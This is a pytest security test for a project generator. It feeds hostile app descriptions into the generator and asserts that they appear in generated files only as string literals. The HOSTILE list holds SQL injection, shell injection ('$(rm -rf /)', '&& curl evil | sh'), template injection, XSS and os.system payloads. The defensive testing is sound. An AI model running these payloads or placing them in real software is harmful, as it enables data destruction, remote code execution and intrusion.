"""No description can inject code: hostile text reaches generated files only as literals."""

from __future__ import annotations

import io
import json
import tokenize

import pytest
import yaml

from tdeveloper.pipeline import generate
from tdeveloper.spec import GeneratedFile
from tdeveloper.spec.errors import TDevError

HOSTILE = [
    'A shop: products (name, price, note). A note may read "\'; DROP TABLE products; --" or '
    '"""triple""" quotes and \\"escapes\\".',
    'Pets: name, species (dog, "cat", {{ config.__class__ }}, </script><script>alert(1)</script>), '
    "owner. Owners: name, email.",
    "Accounts: $(rm -rf /), `whoami`, name, class, from, select, order, user; "
    "each account belongs to a user. Users: name; && curl evil | sh",
    "{% for x in range(10**9) %}{{ x }}{% endfor %} tasks with a title",
    "Cafés: naïve name, 🐶 emoji, 2fa enabled, 3d model. Order items: quantity; "
    "an order item belongs to a café.",
    'Tickets: title\n"""\nimport os; os.system(\'id\')\n"""\n# comment\\\nvalue',
]
MARKERS = ["DROP TABLE", "rm -rf", "</script>", "whoami", "os.system", "config.__class__", "curl"]


def _code_outside_strings(source: str) -> str:
    """The Python source with every string literal and comment removed."""
    kept = []
    for tok in tokenize.generate_tokens(io.StringIO(source).readline):
        if tok.type not in (tokenize.STRING, tokenize.COMMENT):
            kept.append(tok.string)
    return " ".join(kept)


def _check_file(f: GeneratedFile) -> None:
    if f.path.endswith(".py"):
        compile(f.content, f.path, "exec")
        code = _code_outside_strings(f.content)
        for marker in MARKERS:
            assert marker not in code, (f.path, marker)
    elif f.path.endswith(".json") and "/tsconfig" not in f.path:  # tsconfig is JSON with comments
        json.loads(f.content)
    elif f.path.endswith((".yml", ".yaml")):
        yaml.safe_load(f.content)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_description_is_contained(text: str) -> None:
    try:
        result = generate(text)
    except TDevError as exc:  # refusing clearly is also safe
        refused = exc.message
        assert refused
        assert "\n" not in refused
        return
    project = result.state.project
    assert project is not None
    assert project.quality.passed, [c for c in project.quality.checks if not c.passed]
    for f in project.files:
        assert ".." not in f.path.split("/") and not f.path.startswith("/")
        _check_file(f)
    spec = result.state.parsed.spec if result.state.parsed else None
    assert spec is not None
    for entity in spec.entities:
        assert entity.name.isidentifier() and entity.name.isascii()
        assert all(fl.name.isidentifier() and fl.name.isascii() for fl in entity.fields)
